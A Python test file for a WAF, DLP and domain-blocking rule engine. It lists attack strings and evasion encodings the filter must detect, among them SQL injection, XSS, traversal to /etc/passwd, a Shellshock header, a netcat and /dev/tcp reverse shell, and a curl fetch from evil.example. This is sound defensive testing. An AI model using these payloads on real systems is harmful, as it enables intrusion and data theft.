"""The slow path's rule engine (slowpath/rulesfile.py, waf.py, dlp.py, domains.py, inspector.py, normalize.py).

WAF: every category caught raw, URL-encoded, double-encoded and in mixed
case, in the URI, headers and bodies; ordinary requests, and every HTTP
request of the shared corpus, pass (the one attack the corpus holds is
caught). DLP: each detector's positives and negatives, values split across
chunks. Domains: exact, wildcard, case, trailing dot, per field. The rule
file: every kind of error names its line. Random and mutated input never
raises.
"""
from __future__ import annotations

import random
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from datapath.errors import UsageError
from protocols.api import Direction
from protocols.dns import DnsMessage, DnsQuestion
from protocols.http import HttpBody, HttpMessageEnd, HttpParser, HttpRequest, HttpResponse
from slowpath import normalize
from slowpath.dlp import DETECTORS, DLP_TAIL_BYTES, luhn_ok
from slowpath.domains import DOMAIN_DEFAULT_ID, DomainIndex, check_domain_pattern
from slowpath.hits import MAX_MATCHED_CHARS, RESERVED_IDS, Hit
from slowpath.rulesfile import RulesError, load_rules, load_rules_text
from slowpath.waf import BUILTIN_SIGNATURES, MAX_WAF_BODY_BYTES, WAF_CATEGORIES, WAF_FIELDS, hs_check

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT.parent / "shared" / "corpus"
EXAMPLE = ROOT / "examples" / "rules.yaml"

C2S, S2C = Direction.TO_SERVER, Direction.TO_CLIENT

ALL_SETS = "waf:\n  sets: {sqli: block, xss: block, traversal: alert, cmdi: block}\n"
DLP_ALL = ("dlp:\n  - {name: leak, detectors: [credit_card, us_ssn, aws_access_key, pem_private_key],"
           " direction: both}\n")


@pytest.fixture(scope="module")
def waf():
    return load_rules_text(ALL_SETS, "all.yaml")


@pytest.fixture(scope="module")
def dlp():
    return load_rules_text(DLP_ALL, "dlp.yaml")


def request(uri: str = "/", headers=(), method: str = "GET", content_type: str | None = None,
            host: str | None = "app.example") -> HttpRequest:
    headers = tuple(headers)
    if content_type:
        headers += (("Content-Type", content_type),)
    return HttpRequest(C2S, method, uri, "HTTP/1.1", host, None, content_type, headers, None, False, (), 0)


def feed_all(insp, events) -> list[Hit]:
    out = []
    for ev in events:
        out += insp.feed(ev)
    return out + insp.close()


def waf_hits(rs, uri="/", headers=(), body: bytes | None = None, content_type=None) -> list[Hit]:
    evs = [request(uri, headers, "POST" if body is not None else "GET", content_type)]
    if body is not None:
        evs.append(HttpBody(C2S, body))
    evs.append(HttpMessageEnd(C2S, len(body or b""), len(body or b"")))
    return feed_all(rs.flow({"waf"}), evs)


def categories(hits) -> set[str]:
    return {h.category for h in hits}


# -- encodings an attacker uses --------------------------------------------------

def url_encoded(s: str) -> str:
    return quote(s, safe="")


def double_encoded(s: str) -> str:
    return quote(quote(s, safe=""), safe="")


def mixed_case(s: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(s))


def lower_hex_encoded(s: str) -> str:
    """Every character as %xx with lower-case hex digits (servers take either)."""
    return "".join(f"%{b:02x}" for b in s.encode())


ENCODINGS = {"raw": lambda s: s.replace(" ", "+"), "url": url_encoded, "double": double_encoded,
             "mixed-case": lambda s: mixed_case(s).replace(" ", "%20"),
             "mixed-case-double": lambda s: double_encoded(mixed_case(s)),
             "lower-hex": lower_hex_encoded}

ATTACKS = [
    ("sqli", "1' union select username, password from users--"),
    ("sqli", "1 UNION/**/ALL/**/SELECT null,version()"),
    ("sqli", "' or 1=1--"),
    ("sqli", "admin' or 'a'='a"),
    ("sqli", "1 or 1=1"),
    ("sqli", "1; drop table users"),
    ("sqli", "1 and sleep(5)"),
    ("sqli", "1' and extractvalue(1, concat(0x7e, @@version))"),
    ("sqli", "x' ;exec xp_cmdshell 'dir'"),
    ("sqli", "1' order by 3"),
    ("sqli", "1 union select table_name from information_schema.tables"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(document.cookie)>"),
    ("xss", "<svg/onload=confirm(1)>"),
    ("xss", "javascript:alert(1)"),
    ("xss", "\"><iframe src=//evil.example>"),
    ("xss", "<details open ontoggle=x>"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\..\\windows\\win.ini"),
    ("traversal", "/proc/self/environ"),
    ("traversal", "....//....//etc/shadow"),
    ("traversal", "php://filter/convert.base64-encode/resource=index"),
    ("traversal", "file:///etc/hosts"),
    ("cmdi", ";cat /etc/passwd"),
    ("cmdi", "127.0.0.1 | nc 10.0.0.1 4444 -e /bin/sh"),
    ("cmdi", "$(whoami)"),
    ("cmdi", "`id`"),
    ("cmdi", "x && curl http://evil.example/x.sh"),
    ("cmdi", "a;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("cmdi", "${IFS}cat${IFS}/etc/passwd"),
    ("cmdi", "x\nid\n"),
]


@pytest.mark.parametrize("enc", list(ENCODINGS))
@pytest.mark.parametrize("category, attack", ATTACKS)
def test_waf_catches_attack_in_query(waf, category, attack, enc):
    uri = "/search?q=" + ENCODINGS[enc](attack) + "&page=2"
    hits = waf_hits(waf, uri)
    assert category in categories(hits), (uri, [h.describe() for h in hits])
    for h in hits:
        assert h.field == "http.uri" and h.direction == C2S
        assert 0 < len(h.matched) <= MAX_MATCHED_CHARS


@pytest.mark.parametrize("category, attack", ATTACKS)
def test_waf_catches_attack_in_cookie_and_form_body(waf, category, attack):
    hits = waf_hits(waf, "/", headers=[("Cookie", "sid=abc; pref=" + url_encoded(attack))])
    assert category in categories(hits), [h.describe() for h in hits]
    assert all(h.field == "http.header.cookie" for h in hits)
    body = ("user=alice&comment=" + quote(attack, safe="")).encode()
    hits = waf_hits(waf, "/post", body=body, content_type="application/x-www-form-urlencoded")
    # Bodies get stricter signatures (prose and code live there): a numeric
    # tautology, "order by 3", a command after a newline or in backticks
    # (Markdown code) are only looked for in the URI and headers.
    uri_only = {"1 or 1=1", "1' order by 3", "x\nid\n", "`id`"}
    if attack not in uri_only:
        assert category in categories(hits), [h.describe() for h in hits]
    assert all(h.field == "http.request_body" for h in hits)


def test_waf_traversal_in_path_and_evasions(waf):
    for uri in ["/static/..%2f..%2f..%2fetc/passwd", "/static/%2e%2e/%2e%2e/secret",
                "/a/%252e%252e%252fconfig",                 # double-encoded
                "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",   # overlong UTF-8 (IIS, CVE-2000-0884)
                "/a/%u002e%u002e/%u002e%u002e/boot.ini",     # %uXXXX
                "/a/..%5c..%5cweb.config",                   # backslash
                "/files/..%00/..%00/etc/passwd"]:            # NUL
        assert "traversal" in categories(waf_hits(waf, uri)), uri


def test_waf_full_width_and_nul_evasions(waf):
    assert "xss" in categories(waf_hits(waf, "/?q=%uff1cscript%uff1ealert(1)"))      # full-width < >
    assert "xss" in categories(waf_hits(waf, "/?q=%EF%BC%9Cscript%EF%BC%9E"))         # the same as UTF-8
    assert "xss" in categories(waf_hits(waf, "/?q=<scr%00ipt>"))
    assert "sqli" in categories(waf_hits(waf, "/?q=1%2520UnIoN%2520SeLeCt%25201"))


def test_waf_headers_and_json_body(waf):
    hits = waf_hits(waf, "/cgi-bin/status", headers=[("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")])
    assert {"cmdi", "traversal"} <= categories(hits)
    assert {h.field for h in hits} == {"http.header.user-agent"}
    hits = waf_hits(waf, "/", headers=[("X-Forwarded-For", "1.2.3.4' or 1=1-- ")])
    assert "sqli" in categories(hits)
    hits = waf_hits(waf, "/api", body=b'{"name": "\\u003cscript\\u003ealert(1)"}', content_type="application/json")
    assert "xss" in categories(hits) and hits[0].field == "http.request_body"
    assert "<script" in hits[0].matched


def test_waf_matched_text_and_actions(waf):
    hits = waf_hits(waf, "/item?id=5%20UNION%20SELECT%201")
    (h,) = [h for h in hits if h.rule_id == 100001]
    assert h.matched == "UNION SELECT"            # decoded, case as sent
    assert h.action == "block" and h.severity == 1 and h.rule_name == "sqli-union-select"
    assert "100001" in h.describe() and "http.uri" in h.describe() and "UNION SELECT" in h.describe()
    assert h.as_dict()["signature_id"] == 100001
    # traversal is set to alert in ALL_SETS
    assert {h.action for h in waf_hits(waf, "/?f=../../etc/passwd")} == {"alert"}
    # long matches are cut
    hits = waf_hits(waf, "/?q=" + quote("' or " + "x" * 300 + "=1"))
    assert hits and all(len(h.matched) <= MAX_MATCHED_CHARS for h in hits)


CLEAN = [
    "/", "/index.html", "/search?q=cats+and+dogs&page=2", "/search?q=javascript%3A+the+good+parts",
    "/search?q=rock+%26+roll", "/search?q=1+%2B+1+%3D+2", "/search?q=tom%27s+diner", "/search?q=O%27Reilly+books",
    "/api/v1/users/42?fields=name,email&sort=-created", "/products/select-a-union-card",
    "/wiki/Comma-separated_values", "/blog/2024/01/15/what's-new", "/download/file.tar.gz?mirror=eu",
    "/a/b/./c", "/static/js/app.min.js?v=3.1.4", "/login?next=%2Fdashboard%3Ftab%3Dsettings",
    "/calendar?from=2024-01-01&to=2024-12-31", "/search?q=how+to+sleep+better", "/search?q=cat+pictures",
    "/maps?ll=48.85,2.35&z=12", "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E", "/search?q=caf%C3%A9",
    "/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1", "/id/123;jsessionid=ABCDEF0123",
    "/search?q=select+the+best+option", "/search?q=or+else", "/docs/etc/configuration",
    "/search?q=order+by+price", "/track?utm_source=news&utm_medium=email&utm_campaign=spring_sale",
]
CLEAN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"),
    ("User-Agent", "Mozilla/5.0 (compatible; curl/8.4.0)"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/120.0 Mobile Safari/537.36"),
    ("Referer", "https://www.example.com/search?q=cats+%26+dogs"),
    ("Cookie", "sid=abc123; theme=dark; lang=en-US; cart=%7B%22items%22%3A%5B1%2C2%5D%7D"),
    ("Cookie", '__utmz=150903082.1258578040.1.1.utmccn=(organic)|utmcsr=google|utmctr=calendar|utmcmd=org'),
    ("X-Forwarded-For", "203.0.113.7, 10.0.0.1"),
]
CLEAN_BODIES = [
    (b"user=alice&password=hunter2&remember=on", "application/x-www-form-urlencoded"),
    (b"comment=I+love+this%2C+really%21+Cats%3B+dogs+too.&rating=5", "application/x-www-form-urlencoded"),
    (b'{"name": "Alice", "tags": ["a", "b"], "color": "#ff0000", "args": ["--verbose", "-x"]}',
     "application/json"),
    (b'{"query": "select a plan", "note": "cats; cat lovers"}', "application/json"),
    (b"<p>See <a href=\"../docs/intro.html\">the intro</a> and <img src=\"../img/a.png\"></p>", "text/html"),
    (b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nhello\r\n--b--\r\n",
     "multipart/form-data; boundary=b"),
    (bytes(range(256)) * 4, "image/png"),
    (b"$(document).ready(function () { return; });", "text/plain"),
]


@pytest.mark.parametrize("uri", CLEAN)
def test_waf_clean_requests_pass(waf, uri):
    assert waf_hits(waf, uri, headers=CLEAN_HEADERS) == []


@pytest.mark.parametrize("body, ctype", CLEAN_BODIES)
def test_waf_clean_bodies_pass(waf, body, ctype):
    assert waf_hits(waf, "/submit", body=body, content_type=ctype) == []


def test_waf_binary_body_not_scanned(waf):
    assert waf_hits(waf, "/up", body=b"<script>", content_type="image/png") == []
    assert waf_hits(waf, "/up", body=b"<script>", content_type="text/plain") != []


def test_waf_body_cap(waf):
    pad = b"a" * (MAX_WAF_BODY_BYTES - 4)
    # the attack straddles the cap: only its start is scanned
    assert waf_hits(waf, "/up", body=pad + b"<script>", content_type="text/plain") == []
    assert waf_hits(waf, "/up", body=pad[:-10] + b"<script>", content_type="text/plain") != []
    # cut into chunks, scanned once when complete
    insp = waf.flow({"waf"})
    evs = [request("/up", method="POST", content_type="text/plain"), HttpBody(C2S, b"<scr"), HttpBody(C2S, b"ipt>")]
    assert feed_all(insp, evs)[0].rule_id == 100101


def test_waf_sets_off_and_what(waf):
    rs = load_rules_text("waf:\n  sets: {xss: alert}\n", "x.yaml")
    assert waf_hits(rs, "/?q=' or 1=1--") == []
    assert [h.action for h in waf_hits(rs, "/?q=<script>")] == ["alert"]
    # the flow's policy decides: no "waf", no WAF
    insp = waf.flow({"dlp", "dpi"})
    assert feed_all(insp, [request("/?q=<script>")]) == []
    with pytest.raises(ValueError):
        waf.flow({"waf", "ids"})


def test_builtin_signatures_well_formed():
    ids = [s.id for s in BUILTIN_SIGNATURES]
    assert len(ids) == len(set(ids))
    per = {}
    for s in BUILTIN_SIGNATURES:
        per[s.category] = per.get(s.category, 0) + 1
        base = {"sqli": 100000, "xss": 100100, "traversal": 100200, "cmdi": 100300}[s.category]
        assert base < s.id < base + 100
        assert 1 <= s.severity <= 3 and s.fields <= set(WAF_FIELDS) and s.description
        # every built-in can report exactly what it matched
        assert hs_check(s.pattern) == (True, ""), s.name
    assert set(per) == set(WAF_CATEGORIES) and min(per.values()) >= 5


def test_custom_signatures_fields():
    rs = load_rules_text("""
waf:
  signatures:
    - {id: 900001, name: admin, pattern: "^/admin", fields: [uri]}
    - {id: 900002, name: numeric id, pattern: "^[0-9]+x$", fields: [args], action: alert, severity: 3}
    - {id: 900003, name: scanner, pattern: sqlmap, fields: [headers], category: recon}
    - {id: 900004, name: big, pattern: "a{2,300}b", fields: [body]}
""", "c.yaml")
    assert [h.rule_id for h in waf_hits(rs, "/admin/users")] == [900001]
    assert [h.rule_id for h in waf_hits(rs, "http://proxy.example/ADMIN")] == [900001]   # absolute-form, case
    assert waf_hits(rs, "/x/admin") == []
    hits = waf_hits(rs, "/?a=1&b=42x&c=7x")
    assert [(h.rule_id, h.field, h.matched, h.action, h.severity) for h in hits] == \
        [(900002, "http.args", "42x", "alert", 3)]                     # once per request
    hits = waf_hits(rs, "/", headers=[("User-Agent", "sqlmap/1.7")])
    assert [(h.rule_id, h.category, h.field) for h in hits] == [(900003, "recon", "http.header.user-agent")]
    # a pattern Hyperscan cannot give a start for still works; the text shown ends where it matched
    hits = waf_hits(rs, "/", body=b"xx" + b"a" * 100 + b"b", content_type="text/plain")
    assert [h.rule_id for h in hits] == [900004] and hits[0].matched.endswith("aab")
    # form-encoded body values are args too
    hits = waf_hits(rs, "/", body=b"q=12x", content_type="application/x-www-form-urlencoded")
    assert [(h.rule_id, h.field) for h in hits] == [(900002, "http.args")]


# -- the corpus ---------------------------------------------------------------------

def corpus_events(pcap: Path):
    from slowpath.analyzer import analyse_flow
    from slowpath.pcap import read_capture
    for flow in read_capture(pcap).flows:
        _, events = analyse_flow(flow)
        yield flow, events


@pytest.mark.skipif(not (CORPUS / "pcaps").is_dir(), reason=f"corpus not found at {CORPUS}")
def test_corpus_requests_give_no_false_positives():
    """Every flow of the corpus through every WAF set and every DLP detector.
    The corpus holds one attack, a traversal probe in zeek-tcp-tcp-fast-open
    (GET //index.php?page=../../../etc/passwd): it must be caught, and
    nothing else may hit."""
    rs = load_rules_text(ALL_SETS + DLP_ALL, "all.yaml")
    requests = 0
    found = []
    for pcap in sorted((CORPUS / "pcaps").iterdir()):
        for flow, events in corpus_events(pcap):
            requests += sum(isinstance(e, HttpRequest) for e in events)
            for h in feed_all(rs.flow({"waf", "dlp", "dpi"}), events):
                found.append((pcap.name, h.category, h.rule_name, h.matched))
    assert requests >= 30
    attack = [f for f in found if f[0] == "zeek-tcp-tcp-fast-open.pcap"]
    assert {f[1] for f in attack} == {"traversal"} and "/etc/passwd" in {f[3] for f in attack}
    # One request of the corpus sends both Content-Length and Transfer-Encoding
    # (a Suricata test capture): a protocol anomaly, a hit as in CRS.
    protocol = [f for f in found if f[1] == "protocol"]
    assert protocol == [("sv-http-chunked.pcap", "protocol",
                         "HTTP protocol anomaly CONTENT_LENGTH_WITH_TRANSFER_ENCODING",
                         "CONTENT_LENGTH_WITH_TRANSFER_ENCODING")]
    assert [f for f in found if f not in attack and f not in protocol] == []


# -- DLP ------------------------------------------------------------------------------

def body_hits(rs, chunks, direction=S2C, what=frozenset({"dlp"})) -> list[Hit]:
    insp = rs.flow(what)
    if direction == S2C:
        evs = [request("/"), HttpMessageEnd(C2S, 0, 0),
               HttpResponse(S2C, 200, "OK", "HTTP/1.1", "text/plain", (), "GET", None, False, (), 0)]
    else:
        evs = [request("/", method="POST")]
    evs += [HttpBody(direction, c) for c in chunks]
    total = sum(len(c) for c in chunks)
    evs.append(HttpMessageEnd(direction, total, total))
    return feed_all(insp, evs)


CARDS = ["4111 1111 1111 1111", "4111-1111-1111-1111", "4111111111111111", "5555555555554444",
         "2223003122003222", "378282246310005", "3782 822463 10005", "6011111111111117",
         "3530111333300000", "30569309025904", "6200000000000005", "4222222222222"]
NOT_CARDS = ["4111111111111112",                 # Luhn fails
             "1234567812345670",                 # Luhn passes, no issuer has prefix 1
             "37828224631000",                   # Amex prefix, wrong length (14)
             "41111111111111110000",             # 20 digits: not a card
             "order 2024-01-15 12:30 ref 99",
             "phone +1 800 555 0199", "0000000000000000"]


@pytest.mark.parametrize("card", CARDS)
def test_dlp_card_positive(dlp, card):
    hits = body_hits(dlp, [f"name=Bob&card={card}&exp=12/30".encode()])
    assert [(h.category, h.rule_id, h.field) for h in hits] == [("credit_card", 200001, "http.response_body")]
    m = hits[0].matched
    assert m.endswith(card[-4:]) and sum(c.isdigit() for c in m) == 4 and "*" in m
    assert len(m) == len(card)                  # separators kept, digits masked


@pytest.mark.parametrize("text", NOT_CARDS)
def test_dlp_card_negative(dlp, text):
    assert body_hits(dlp, [f"x {text} y".encode()]) == []


def test_detector_registry():
    assert set(DETECTORS) == {"credit_card", "us_ssn", "aws_access_key", "pem_private_key"}
    assert len({d.id for d in DETECTORS.values()}) == 4
    assert all(d.id in RESERVED_IDS and d.max_len < DLP_TAIL_BYTES for d in DETECTORS.values())


def test_luhn():
    assert luhn_ok("79927398713") and not luhn_ok("79927398710")
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")


def test_dlp_card_split_across_chunks_everywhere(dlp):
    body = b'{"user": "bob", "pan": "4111 1111 1111 1111", "ok": true}'
    for cut in range(1, len(body)):
        hits = body_hits(dlp, [body[:cut], body[cut:]])
        assert [h.matched for h in hits] == ["**** **** **** 1111"], cut
    # one byte at a time, and a long body around it
    assert len(body_hits(dlp, [bytes([b]) for b in body])) == 1
    long = b"x" * 5000 + body + b"y" * 5000
    assert len(body_hits(dlp, [long[i:i + 97] for i in range(0, len(long), 97)])) == 1


def test_dlp_card_at_end_of_body_and_longer_run(dlp):
    assert len(body_hits(dlp, [b"pan=", b"4111111111111111"])) == 1       # ends with the message
    # the run continues in the next chunk: 20 digits, not a card
    assert body_hits(dlp, [b"pan=4111111111111111", b"0000"]) == []


SSNS = [("123-45-6789", True), ("078-05-1120", True), ("899-99-9999", True),
        ("000-12-3456", False), ("666-12-3456", False), ("900-12-3456", False), ("987-65-4321", False),
        ("123-00-4567", False), ("123-45-0000", False), ("123-45-67890", False), ("1123-45-6789", False),
        ("123456789", False), ("12-345-6789", False)]


@pytest.mark.parametrize("ssn, real", SSNS)
def test_dlp_ssn(dlp, ssn, real):
    hits = body_hits(dlp, [f"ssn: {ssn}\n".encode()], direction=C2S)
    if real:
        assert [(h.category, h.matched, h.field) for h in hits] == \
            [("us_ssn", "***-**-" + ssn[-4:], "http.request_body")]
    else:
        assert hits == []


@pytest.mark.parametrize("text, real", [
    ("AKIAIOSFODNN7EXAMPLE", True),           # AWS documentation's example key id
    ("ASIAY34FZKBOKMUTVV7A", True),
    ("key=AKIAIOSFODNN7EXAMPLE&x=1", True),
    ("AKIAIOSFODNN7EXAMPL", False),            # 19 characters
    ("AKIAIOSFODNN7EXAMPLEX", False),          # part of a longer token
    ("akiaiosfodnn7example", False),           # key ids are upper case
    ("XAKIAIOSFODNN7EXAMPLE", False),
    ("AIDAIOSFODNN7EXAMPLE", False),           # a user id, not an access key
])
def test_dlp_aws_key(dlp, text, real):
    hits = body_hits(dlp, [text.encode()])
    assert [h.category for h in hits] == (["aws_access_key"] if real else [])
    if real:
        assert hits[0].matched.startswith(("AKIA", "ASIA")) and len(hits[0].matched) == 20


@pytest.mark.parametrize("text, real", [
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow...", True),
    ("-----BEGIN PRIVATE KEY-----\nMIIE", True),
    ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl", True),
    ("-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIF", True),
    ("-----BEGIN EC PRIVATE KEY-----", True),
    ("-----BEGIN PUBLIC KEY-----\nMIIB", False),
    ("-----BEGIN CERTIFICATE-----\nMIID", False),
    ("BEGIN RSA PRIVATE KEY", False),
])
def test_dlp_pem_key(dlp, text, real):
    hits = body_hits(dlp, [b"key:\n" + text.encode()])
    assert [h.category for h in hits] == (["pem_private_key"] if real else [])
    if real:
        assert hits[0].matched == text.split("\n")[0]       # the header, never the key material


def test_dlp_pem_split(dlp):
    body = b"x" * 200 + b"-----BEGIN RSA PRIVATE KEY-----\nMIIE" + b"y" * 200
    for cut in range(190, 240):
        assert len(body_hits(dlp, [body[:cut], body[cut:]])) == 1, cut


def test_dlp_rules_choose_detectors_and_direction():
    rs = load_rules_text("""
dlp:
  - {name: ssn-up, detectors: [us_ssn], direction: request, action: alert, severity: 2}
  - {name: cards-down, detectors: [credit_card], direction: response}
""", "d.yaml")
    both = b"ssn 123-45-6789 card 4111111111111111"
    assert [(h.rule_name, h.category, h.action, h.severity) for h in body_hits(rs, [both], C2S)] == \
        [("ssn-up", "us_ssn", "alert", 2)]
    assert [(h.rule_name, h.category, h.action, h.severity) for h in body_hits(rs, [both], S2C)] == \
        [("cards-down", "credit_card", "block", 1)]
    assert body_hits(rs, [both], S2C, what=frozenset({"waf", "dpi"})) == []


def test_dlp_one_hit_per_message(dlp):
    insp = dlp.flow({"dlp"})
    resp = HttpResponse(S2C, 200, "OK", "HTTP/1.1", None, (), "GET", None, False, (), 0)
    cards = b"4111111111111111 5555555555554444 "
    evs = [resp, HttpBody(S2C, cards), HttpBody(S2C, cards), HttpMessageEnd(S2C, 68, 68),
           resp, HttpBody(S2C, cards), HttpMessageEnd(S2C, 34, 34)]
    hits = feed_all(insp, evs)
    assert [h.matched for h in hits] == ["************1111", "************1111"]


def test_dlp_unfinished_body_flushed_on_close(dlp):
    insp = dlp.flow({"dlp"})
    assert insp.feed(HttpBody(S2C, b"pan 4111111111111111")) == []    # might go on
    assert [h.category for h in insp.close()] == ["credit_card"]


# -- domains -----------------------------------------------------------------------------

DOMAINS = """
domains:
  - {name: blocked, id: 900100, match: [evil.example, "*.malware.test", Mixed.Case.Example.], action: block}
  - {name: sni-only, match: ["*.tls.test"], fields: [tls_sni], action: alert, severity: 3}
"""


@pytest.fixture(scope="module")
def dom():
    return load_rules_text(DOMAINS, "dom.yaml")


def dns_query(name: str, response: bool = False) -> DnsMessage:
    return DnsMessage(C2S if not response else S2C, 1, response, 0, "QUERY", False, False, True, False,
                      False, False, 0, "NOERROR", (DnsQuestion(name, 1, "A", 1),), (), (), 0)


def sni(name: str):
    from protocols.tls import TlsClientHello
    return TlsClientHello(C2S, 0x0301, 0x0303, (), (), (), (), (), (), name, (), "", "", "", False)


@pytest.mark.parametrize("name, rule", [
    ("evil.example", "blocked"), ("EVIL.Example", "blocked"), ("evil.example.", "blocked"),
    ("a.malware.test", "blocked"), ("deep.sub.MALWARE.test.", "blocked"),
    ("mixed.case.example", "blocked"),
    ("malware.test", None),            # the wildcard is for names under it, not itself
    ("notevil.example", None), ("evil.example.com", None), ("www.evil.example", None),
    ("malware.test.example", None), ("xmalware.test", None), ("", None), (".", None),
])
def test_domain_match(dom, name, rule):
    want = [rule] if rule else []
    for ev, fld in ((dns_query(name), "dns.rrname"), (sni(name), "tls.sni"), (request(host=name), "http.host")):
        hits = feed_all(dom.flow({"dpi"}), [ev])
        assert [h.rule_name for h in hits] == want, (name, fld)
        assert all(h.field == fld and h.category == "domain" and h.rule_id == 900100 for h in hits)


def test_domain_fields_ids_and_sources(dom):
    (h,) = feed_all(dom.flow({"dpi"}), [sni("x.tls.test")])
    assert (h.rule_name, h.action, h.severity, h.rule_id) == ("sni-only", "alert", 3, DOMAIN_DEFAULT_ID + 2)
    assert feed_all(dom.flow({"dpi"}), [dns_query("x.tls.test")]) == []
    # DNS responses are not checked (the query was)
    assert feed_all(dom.flow({"dpi"}), [dns_query("evil.example", response=True)]) == []
    # the host: Host field with port, absolute-form target, CONNECT authority, IPv6 literal
    for ev in (request(host="evil.example:8080"), request("http://evil.example/x", host="good.example"),
               request("evil.example:443", method="CONNECT", host=None), request("/", host="user@evil.example")):
        assert [h.matched for h in feed_all(dom.flow({"dpi"}), [ev])] == ["evil.example"], ev
    assert feed_all(dom.flow({"dpi"}), [request(host="[2001:db8::1]:80")]) == []
    # a URL in the query is not an absolute-form target
    assert feed_all(dom.flow({"dpi"}), [request("/go?u=http://evil.example/", host="good.example")]) == []
    # no "dpi" in the policy: no domain rules
    assert feed_all(dom.flow({"waf", "dlp"}), [sni("evil.example")]) == []


def test_domain_index_walks_suffixes():
    idx = DomainIndex()
    for i in range(10000):
        idx.add(f"*.d{i}.example", i)
    idx.add("exact.example", 10000)
    assert idx.match("a.b.d42.example") == [42]
    assert idx.match("d42.example") == [] and idx.match("exact.example") == [10000]


# -- the rule file: errors with their lines ---------------------------------------------

def errors_of(text: str) -> list[str]:
    with pytest.raises(RulesError) as ei:
        load_rules_text(text, "r.yaml")
    return ei.value.lines()


def one_error(text: str, line: int, *needles: str) -> str:
    errs = errors_of(text)
    assert len(errs) == 1, errs
    assert errs[0].startswith(f"r.yaml:{line}: "), errs
    for n in needles:
        assert n in errs[0], errs
    return errs[0]


SIG = "waf:\n  signatures:\n"


@pytest.mark.parametrize("text, line, needles", [
    ("waf: [\n", 2, ["not valid YAML"]),
    ("- a\n- b\n", 1, ["mapping at the top level"]),
    ("waf: {}\nids: []\n", 2, ["ids", "unknown key"]),
    # unknown detector, in a block list: the element's own line
    ("dlp:\n  - name: x\n    detectors:\n      - credit_card\n      - credit_cards\n", 5,
     ["dlp rule 1 (x)", "detectors[2]", "unknown detector 'credit_cards'", "us_ssn"]),
    ("dlp:\n  - name: x\n    detectors: [us_ssn, us_ssn]\n", 3, ["listed twice"]),
    ("dlp:\n  - {name: x, detectors: []}\n", 2, ["dlp rule 1: detectors"]),
    ("dlp:\n  - {name: x, detectors: [us_ssn], direction: upload}\n", 2, ["direction", "'upload'"]),
    # patterns Hyperscan refuses
    (SIG + "    - {id: 900001, name: a, pattern: 'union(select'}\n", 3, ["waf signature 1 (a)", "pattern",
                                                                         "Hyperscan refuses"]),
    (SIG + "    - {id: 900001, name: a, pattern: ok}\n    - id: 900002\n      name: b\n      pattern: 'x*'\n",
     6, ["waf signature 2 (b)", "Hyperscan refuses 'x*'"]),       # matches the empty string
    (SIG + "    - {id: 900001, name: a, pattern: '(a)\\1'}\n", 3, ["Hyperscan refuses"]),   # backreference
    (SIG + "    - {id: 900001, name: a, pattern: \"a\\0b\"}\n", 3, ["NUL"]),   # would end the C string
    # ids and names
    (SIG + "    - {id: 900001, name: a, pattern: x}\n    - {id: 900001, name: b, pattern: y}\n", 4,
     ["duplicate id 900001", "first on line 3"]),
    (SIG + "    - {id: 900001, name: a, pattern: x}\ndomains:\n  - {name: d, id: 900001, match: [a.example]}\n", 5,
     ["domain rule 1 (d)", "duplicate id 900001"]),
    (SIG + "    - {id: 100001, name: a, pattern: x}\n", 3, ["100000-399999 are reserved"]),
    (SIG + "    - {id: 900001, name: a, pattern: x}\ndlp:\n  - {name: a, detectors: [us_ssn]}\n", 5,
     ["duplicate rule name 'a'", "first on line 3"]),
    (SIG + "    - {name: a, pattern: x}\n", 3, ["waf signature 1: id", "required"]),
    # wildcards and names
    ("domains:\n  - name: d\n    match:\n      - ok.example\n      - 'evil*.example'\n", 5,
     ["domain rule 1 (d)", "match[2]", "bad wildcard 'evil*.example'"]),
    ("domains:\n  - {name: d, match: ['a.*.example']}\n", 2, ["bad wildcard"]),
    ("domains:\n  - {name: d, match: ['*']}\n", 2, ["bare '*'"]),
    ("domains:\n  - {name: d, match: ['-bad-.example']}\n", 2, ["bad label '-bad-'"]),
    ("domains:\n  - {name: d, match: ['bücher.example']}\n", 2, ["not ASCII", "xn--"]),
    ("domains:\n  - {name: d, match: ['a..example']}\n", 2, ["bad label ''"]),
    ("domains:\n  - {name: d, match: [evil.example], fields: [http_host, smtp_helo]}\n", 2,
     ["domain rule 1: fields[2]", "'smtp_helo'"]),
    # unknown fields, sets, actions, severities
    (SIG + "    - {id: 900001, name: a, pattern: x, fields: [url]}\n", 3, ["waf signature 1: fields[1]", "'url'"]),
    (SIG + "    - {id: 900001, name: a, pattern: x, where: uri}\n", 3, ["waf signature 1: where", "unknown key"]),
    ("waf:\n  sets:\n    sqli: block\n    rce: block\n", 4, ["waf.sets.rce", "'rce'"]),
    ("waf:\n  sets:\n    sqli: drop\n", 3, ["waf.sets.sqli", "'drop'"]),
    (SIG + "    - {id: 900001, name: a, pattern: x, severity: 4}\n", 3, ["severity", "less than or equal to 3"]),
    (SIG + "    - {id: '900001', name: a, pattern: x}\n", 3, ["id", "integer"]),
    # a key written twice
    ("waf:\n  sets: {sqli: block}\n  sets: {xss: block}\n", 3, ["waf.sets", "written twice", "first on line 2"]),
])
def test_errors_name_file_and_line(text, line, needles):
    one_error(text, line, *needles)


def test_every_error_is_listed_in_line_order():
    text = ("waf:\n  signatures:\n"
            "    - {id: 900001, name: a, pattern: '('}\n"
            "    - {id: 900001, name: b, pattern: ok}\n"
            "dlp:\n  - {name: c, detectors: [nope]}\n"
